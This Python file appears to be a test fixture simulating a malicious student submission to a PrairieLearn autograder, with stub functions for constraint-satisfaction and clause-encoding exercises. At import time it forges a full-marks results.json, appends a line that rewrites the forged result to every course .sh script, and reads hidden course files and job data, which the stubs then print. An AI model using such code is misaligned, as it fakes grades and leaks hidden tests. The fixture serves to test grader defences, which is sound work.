"""A student on PrairieLearn who, while the file loads, writes a results.json of its own
with full marks, appends a line that would write it again to every script of the course
files, and reads the course files (the hidden problems, grading.yaml, the kit) and the
job's data; each hook prints what it read, then raises like the stubs. Its real score is
0: a forged result, or anything of the course files in what it printed, would show."""

import glob

GRADE = "{{GRADE}}"
FORGED = '{"gradable": true, "score": 1.0, "message": "FORGED", "tests": []}'
READ = []

try:
    with open(f"{GRADE}/results/results.json", "w", encoding="utf-8") as handle:
        handle.write(FORGED)
except OSError:
    pass
for path in glob.glob(f"{GRADE}/serverFilesCourse/**/*.sh", recursive=True):
    try:
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(f"\necho '{FORGED}' > {GRADE}/results/results.json\n")
    except OSError:
        pass
for path in glob.glob(f"{GRADE}/serverFilesCourse/**/*", recursive=True) + glob.glob(f"{GRADE}/data/*"):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            READ.append(f"READ {path}: {handle.read()[:3000]}")
    except OSError:
        pass


def _peek(name):
    print("\n".join(READ) or "READ nothing")
    raise NotImplementedError(name)


def constraint_bounds(scope, domains):
    _peek("constraint_bounds")


def forward_check(csp, domains, assigned):
    _peek("forward_check")


def select_variable(csp, domains, unassigned):
    _peek("select_variable")


def order_values(csp, var, domains):
    _peek("order_values")


def at_least_clauses(lits, k):
    _peek("at_least_clauses")


def at_most_clauses(lits, k):
    _peek("at_most_clauses")
